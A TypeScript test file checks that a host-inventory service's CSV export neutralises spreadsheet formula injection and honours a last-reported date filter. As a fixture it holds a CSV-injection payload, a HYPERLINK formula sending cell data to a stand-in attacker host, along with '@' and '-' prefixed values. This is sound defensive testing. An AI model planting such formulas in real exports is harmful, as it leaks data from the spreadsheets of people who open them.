// The hosts CSV opens in a spreadsheet: report text that looks like a formula must arrive as
// text (CSV injection, OWASP), whatever the reporting host put in its headers.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import type { HostReport } from '../../lib/pakiti-report/index.js';
import { testApp, tokenFor, type TestApp } from '../../../test/support/app.js';
import { admin, personWithRole, smallFederation } from '../../../test/support/seed.js';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Rocky")';

let t: TestApp;
let csirt: string;

before(async () => {
  t = await testApp();
  const fed = await smallFederation(t.services);
  const token = (await t.services.reporters.createToken(admin, fed.siteA1, 'ci')).token;
  const report: HostReport = {
    source: 'json',
    host: 'wn-formula.example.org',
    site: undefined,
    tag: undefined,
    system: FORMULA,
    kernel: '@SUM(1+1)',
    arch: '-x86_64',
    cpu: undefined,
    packager: 'rpm',
    agent: { name: 'vigil-agent', version: '1.0.0' },
    mode: undefined,
    packagesMissing: false,
    warnings: [],
    packages: [{ name: 'bash', version: '0:5.1.8-6.el9_1', arch: 'x86_64' }],
  };
  assert.equal((await t.services.intake.accept(report, { bearer: token }, 'store-only', 'test')).outcome, 'stored');
  csirt = await tokenFor(t.services, (await personWithRole(t.services, 'csirt', 'federation')).personId);
});
after(() => t.close());

test('report text that starts like a formula is exported as quoted text in the hosts CSV', async () => {
  const res = await t.app.inject({ method: 'GET', url: '/api/v1/hosts.csv?q=wn-formula', headers: { authorization: `Bearer ${csirt}` } });

  assert.equal(res.statusCode, 200);
  const row = res.body.split('\n')[1]!;
  assert.ok(row.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Rocky"")"`), row);
  assert.ok(row.includes(`"'-x86_64","'@SUM(1+1)"`), row);
});

test('the CSV takes the list\'s "silent since" filter: hosts last heard of before the time given', async () => {
  const csv = async (reportedBefore: string) =>
    (
      await t.app.inject({
        method: 'GET',
        url: `/api/v1/hosts.csv?q=wn-formula&reportedBefore=${encodeURIComponent(reportedBefore)}`,
        headers: { authorization: `Bearer ${csirt}` },
      })
    ).body
      .trim()
      .split('\n').length;

  assert.equal(await csv(new Date(Date.now() + 86_400_000).toISOString()), 2);
  assert.equal(await csv(new Date(Date.now() - 86_400_000).toISOString()), 1);
});
